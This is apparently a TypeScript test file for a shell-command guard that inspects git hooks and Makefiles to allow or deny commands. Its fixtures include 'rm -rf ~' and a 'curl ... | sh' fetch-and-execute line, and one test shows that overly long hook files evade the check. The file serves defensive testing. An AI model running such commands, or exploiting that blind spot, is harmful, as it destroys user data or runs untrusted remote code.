/** What a file of the project says that is run: it counts as far as it can be told, and never at the cost of the call itself. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { decisionOn, testGuard } from "../../../../test/lib/bundled.ts";

const guard = testGuard();

function withHook(command: string, lines: readonly string[]): ReturnType<typeof decisionOn> {
  return decisionOn(command, guard, { "proj/.git/hooks/pre-commit": `#!/bin/sh\n${lines.join("\n")}\n` });
}

const many = (count: number): readonly string[] => Array.from({ length: count }, (_, position) => `echo ${position}`);

test("the place in the file is the evidence", () => {
  const [effect] = decisionOn("make wipe", guard, { "proj/Makefile": "wipe:\n\tbash clean.sh\n" }).effects;
  assert.deepEqual(effect?.via, ["Makefile:2", "bash", "/home/dev/proj/clean.sh"]);
});

test("a text that is too long is read as far as its share goes, and what stands behind it in the call is judged", () => {
  assert.equal(withHook("git commit -m x", [...many(300), "rm -rf ~"]).verdict, "deny");
  const long = withHook("git commit -m x", [...many(500), "rm -rf ~"]);
  assert.deepEqual([long.verdict, long.doubts], ["allow", []]);
  assert.equal(withHook("git commit -m x; rm -rf ~", many(500)).verdict, "deny");
  assert.equal(withHook(`${"git commit -m x; ".repeat(20)} rm -rf ~`, many(500)).verdict, "deny");
});

test("what cannot be told there raises nothing, and what can be told beside it does", () => {
  assert.equal(withHook("git commit -m x", ['rm -rf "$OUT"', "$CMD --all", 'eval "$SETUP"']).verdict, "allow");
  assert.equal(withHook("git commit -m x", ['rm -rf "$OUT" ~', "$CMD --all"]).verdict, "deny");
  assert.equal(withHook("git commit -m x", ["curl https://example.com/x | sh"]).verdict, "deny");
});

test("a file that runs itself ends", () => {
  const makefile = "all:\n\t$(MAKE) all\n\t$(MAKE) other\nother: all\n\t$(MAKE)\n";
  const decision = decisionOn("make", guard, { "proj/Makefile": makefile });
  assert.deepEqual([decision.verdict, decision.doubts], ["allow", []]);
});
